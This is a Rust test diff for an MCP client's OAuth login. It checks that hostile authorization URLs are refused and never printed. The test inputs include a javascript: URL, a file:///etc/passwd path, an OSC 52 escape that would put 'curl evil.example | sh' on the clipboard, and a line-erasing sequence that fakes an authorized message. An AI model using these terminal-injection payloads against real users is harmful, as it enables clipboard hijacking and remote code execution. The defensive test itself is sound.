@@ -106,6 +106,13 @@ fn query_param(target: &str, key: &str) -> Option<String> {
 /// /register, /authorize (auto-approves), /token. Returns the base URL and
 /// a log of "METHOD path" lines.
 fn start_mock() -> (String, Arc<Mutex<Vec<String>>>) {
+    start_mock_with(None)
+}
+
+/// [`start_mock`] whose metadata names `authorization_endpoint` (default:
+/// its own `/authorize`).
+fn start_mock_with(authorization_endpoint: Option<&str>) -> (String, Arc<Mutex<Vec<String>>>) {
+    let authorization_endpoint = authorization_endpoint.map(str::to_owned);
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let base = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
     let log = Arc::new(Mutex::new(Vec::new()));
@@ -114,6 +121,7 @@ fn start_mock() -> (String, Arc<Mutex<Vec<String>>>) {
         for stream in listener.incoming() {
             let Ok(mut s) = stream else { break };
             let (base, log) = (b.clone(), l.clone());
+            let authorization_endpoint = authorization_endpoint.clone();
             std::thread::spawn(move || {
                 let Some(req) = read_request(&mut s) else {
                     return;
@@ -135,7 +143,8 @@ fn start_mock() -> (String, Arc<Mutex<Vec<String>>>) {
                         &json_h,
                         &json!({
                             "issuer": base,
-                            "authorization_endpoint": format!("{base}/authorize"),
+                            "authorization_endpoint": authorization_endpoint
+                                .unwrap_or_else(|| format!("{base}/authorize")),
                             "token_endpoint": format!("{base}/token"),
                             "registration_endpoint": format!("{base}/register"),
                             "code_challenge_methods_supported": ["S256"],
@@ -371,4 +380,66 @@ fn a_login_slower_than_the_timeout_is_not_cut_short() {
     assert!(status.success(), "stderr: {stderr}\nstdout: {stdout}");
     assert!(stdout.contains("secret_tool"), "{stdout}");
     let _ = std::fs::remove_dir_all(dir);
+}
+
+/// A hostile authorization server's endpoint never reaches the terminal:
+/// not a `javascript:` URL, not one carrying OSC 52 (which would write the
+/// clipboard) or a line-erasing CSI. `mcp` fails at once naming the refusal,
+/// without printing an authorization URL or waiting for a browser.
+#[test]
+fn hostile_authorization_urls_are_never_printed() {
+    for endpoint in [
+        "javascript:alert(document.domain)//",
+        "file:///etc/passwd",
+        "https://as.example/authorize\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
+        "https://as.example/authorize\u{1b}[2K\rmcp: authorized",
+        "http://as.example/authorize",
+    ] {
+        let (base, log) = start_mock_with(Some(endpoint));
+        let dir =
+            std::env::temp_dir().join(format!("mcp-cli-oauth-hostile-{}", std::process::id()));
+        let mut child = Command::new(MCP)
+            .args(["--http", &format!("{base}/mcp"), "--timeout", "20", "tools"])
+            .env("MCP_TOKEN_FILE", dir.join("tokens.json"))
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        // Refused at once: no browser to wait for (the login allowance would
+        // keep it waiting minutes).
+        let deadline = std::time::Instant::now() + Duration::from_secs(15);
+        let status = loop {
+            if let Some(status) = child.try_wait().unwrap() {
+                break status;
+            }
+            if std::time::Instant::now() > deadline {
+                let _ = child.kill();
+                let _ = child.wait();
+                panic!("{endpoint:?}: mcp waits for a browser to come back");
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        };
+        let mut stderr = String::new();
+        child
+            .stderr
+            .take()
+            .unwrap()
+            .read_to_string(&mut stderr)
+            .unwrap();
+        assert_eq!(status.code(), Some(3), "{endpoint:?}: {stderr}");
+        assert!(!stderr.contains("open this URL"), "{stderr}");
+        assert!(stderr.contains("refused URL"), "{stderr}");
+        assert!(
+            !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
+            "{stderr:?}"
+        );
+        let log = log.lock().unwrap().clone();
+        assert!(
+            !log.iter()
+                .any(|l| l.contains("register") || l.contains("token")),
+            "{log:?}"
+        );
+        let _ = std::fs::remove_dir_all(&dir);
+    }
 }
